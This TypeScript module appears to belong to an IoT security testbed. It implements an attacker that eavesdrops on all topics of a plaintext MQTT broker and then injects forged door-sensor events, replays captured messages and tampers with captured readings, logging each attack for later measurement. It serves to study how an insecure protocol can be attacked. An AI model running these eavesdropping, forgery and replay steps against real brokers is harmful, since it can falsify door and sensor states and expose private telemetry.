/**
 * The Phase I attacker: a client on the same broker that eavesdrops on `#`, then injects forged events,
 * replays captured bytes and tampers with captured messages. It never decides whether it succeeded: it logs
 * the digest of everything it sends, and `metrics` reads the victim's log to see what was acted on.
 * @module
 */

import type { Clock } from "../core/clock.ts";
import { payloadDigest } from "../core/digest.ts";
import type { Log } from "../log/jsonl.ts";
import type { MqttTransport } from "../transport/client.ts";
import { decodeReading, type DoorReading, encodeReading, INSECURE_TOPIC } from "./door.ts";
import type { Phase } from "./sensor.ts";

/** Phase I attack classes, in the order they run. */
export const INSECURE_ATTACK_CLASSES = ["eavesdrop", "inject", "replay", "tamper"] as const;
/** One Phase I attack class. */
export type InsecureAttackClass = typeof INSECURE_ATTACK_CLASSES[number];

/** One message the attacker saw on the broker. */
export interface Capture {
  topic: string;
  payload: Uint8Array;
  at: number;
}

/** Attacker behaviour. */
export interface InsecureAttackOptions {
  /** Classes to run (default all). */
  classes: readonly InsecureAttackClass[];
  /** Malicious messages per active class. */
  attempts: number;
  /** Topic the victim listens on. */
  topic: string;
  /** Give up waiting for traffic to capture after this long. */
  captureTimeoutMs: number;
  /** Ms between malicious messages. */
  gapMs: number;
  /** Publish QoS. */
  qos: 0 | 1;
}

/** What the attacker needs from the outside world. */
export interface AttackerDeps {
  clock: Clock;
  log: Log;
  transport: Pick<MqttTransport, "publish" | "subscribe" | "onMessage">;
  signal?: AbortSignal;
}

/** Default Phase I options. */
export const DEFAULT_INSECURE_ATTACK: InsecureAttackOptions = {
  classes: INSECURE_ATTACK_CLASSES,
  attempts: 5,
  topic: INSECURE_TOPIC,
  captureTimeoutMs: 10_000,
  gapMs: 50,
  qos: 1,
};

/**
 * Listens on `#` and keeps what passes, logging each capture (with every field it could read) when
 * `logCaptures` is set. The attacker's own messages are recognised by digest and not logged as captures.
 * @example
 * ```ts
 * const tap = await startEavesdropping(deps, "insecure", true);
 * await tap.waitFor(2, 5_000);
 * ```
 */
export async function startEavesdropping(deps: AttackerDeps, phase: Phase, logCaptures: boolean) {
  const captures: Capture[] = [];
  const ownDigests = new Set<string>();
  deps.transport.onMessage((topic, payload) => {
    const digest = payloadDigest(payload);
    if (ownDigests.has(digest)) return;
    captures.push({ topic, payload, at: deps.clock.now() });
    if (!logCaptures) return;
    const parsed = decodeReading(payload);
    deps.log.event("captured", {
      phase,
      topic,
      digest,
      bytes: payload.length,
      readable: parsed.ok,
      fields: parsed.ok ? parsed.reading : {},
    });
  });
  await deps.transport.subscribe("#", { qos: 0 });
  return {
    captures,
    /** Marks a digest as the attacker's own so it is not mistaken for captured traffic. */
    own(digest: string) {
      ownDigests.add(digest);
    },
    /** Waits until `n` messages on `topic` were captured or `timeoutMs` passed; returns how many there are. */
    async waitFor(n: number, timeoutMs: number, topic?: string): Promise<number> {
      const deadline = deps.clock.now() + timeoutMs;
      const count = () => captures.filter((c) => topic === undefined || c.topic === topic).length;
      while (count() < n && deps.clock.now() < deadline && !deps.signal?.aborted) {
        await deps.clock.sleep(20, deps.signal);
      }
      return count();
    },
  };
}

/**
 * Publishes one malicious message and logs `attack_sent` with its digest.
 * @example
 * ```ts
 * await sendAttack(deps, tap, { phase: "insecure", cls: "replay", variant: "verbatim", attackId: "atk-replay-1", topic, payload, qos: 1 });
 * ```
 */
export async function sendAttack(
  deps: AttackerDeps,
  tap: { own(digest: string): void },
  attack: {
    phase: Phase;
    cls: string;
    variant: string;
    attackId: string;
    topic: string;
    payload: Uint8Array;
    qos: 0 | 1;
  },
): Promise<void> {
  const digest = payloadDigest(attack.payload);
  tap.own(digest);
  await deps.transport.publish(attack.topic, attack.payload, { qos: attack.qos });
  deps.log.event("attack_sent", {
    phase: attack.phase,
    class: attack.cls,
    variant: attack.variant,
    attack_id: attack.attackId,
    topic: attack.topic,
    digest,
    bytes: attack.payload.length,
  });
}

/**
 * Runs the Phase I attacks against plaintext MQTT; resolves with the number of malicious messages sent.
 * @example
 * ```ts
 * await runInsecureAttacks(DEFAULT_INSECURE_ATTACK, { clock: systemClock, log, transport });
 * ```
 */
export async function runInsecureAttacks(
  options: InsecureAttackOptions,
  deps: AttackerDeps,
): Promise<{ sent: number; captured: number }> {
  const { clock, log } = deps;
  log.event("role_started", {
    phase: "insecure",
    classes: options.classes,
    attempts: options.attempts,
    topic: options.topic,
  });
  const tap = await startEavesdropping(deps, "insecure", options.classes.includes("eavesdrop"));
  const needsCapture = options.classes.some((c) => c === "replay" || c === "tamper");
  const captured = await tap.waitFor(needsCapture ? 1 : 0, options.captureTimeoutMs, options.topic);
  const victims = () =>
    tap.captures.filter((c) => c.topic === options.topic).map((c) => ({
      capture: c,
      parsed: decodeReading(c.payload),
    }))
      .filter((v): v is { capture: Capture; parsed: { ok: true; reading: DoorReading } } => v.parsed.ok);
  let sent = 0;
  const send = async (cls: string, variant: string, i: number, payload: Uint8Array) => {
    await sendAttack(deps, tap, {
      phase: "insecure",
      cls,
      variant,
      attackId: `atk-${cls}-${i}`,
      topic: options.topic,
      payload,
      qos: options.qos,
    });
    sent++;
    await clock.sleep(options.gapMs, deps.signal);
  };

  for (const cls of options.classes) {
    for (let i = 1; i <= options.attempts && !deps.signal?.aborted; i++) {
      const known = victims();
      const latest = known.at(-1)?.parsed.reading;
      if (cls === "inject") {
        // A forged event in the sensor's name: the plaintext protocol has nothing to tell it apart.
        const forged: DoorReading = {
          sensor_id: latest?.sensor_id ?? "door-sensor-1",
          event: "open",
          timestamp: Math.round(clock.now()),
          counter: (latest?.counter ?? 0) + 1000 + i,
          temperature: 21,
          status: "ok",
          msg_id: `atk-inject-${i}`,
        };
        await send(cls, "forged-event", i, encodeReading(forged));
      } else if (cls === "replay" && known.length > 0) {
        const victim = known[(i - 1) % known.length];
        await send(cls, "verbatim", i, victim.capture.payload);
      } else if (cls === "tamper" && known.length > 0) {
        const original = known[(i - 1) % known.length].parsed.reading;
        const altered: DoorReading = {
          ...original,
          event: original.event === "open" ? "closed" : "open",
          temperature: original.temperature + 10,
          msg_id: `atk-tamper-${i}`,
        };
        await send(cls, "flip-event", i, encodeReading(altered));
      }
    }
  }
  log.event("role_stopped", {
    reason: deps.signal?.aborted ? "signal" : "done",
    sent,
    captured: tap.captures.length,
  });
  return { sent, captured };
}
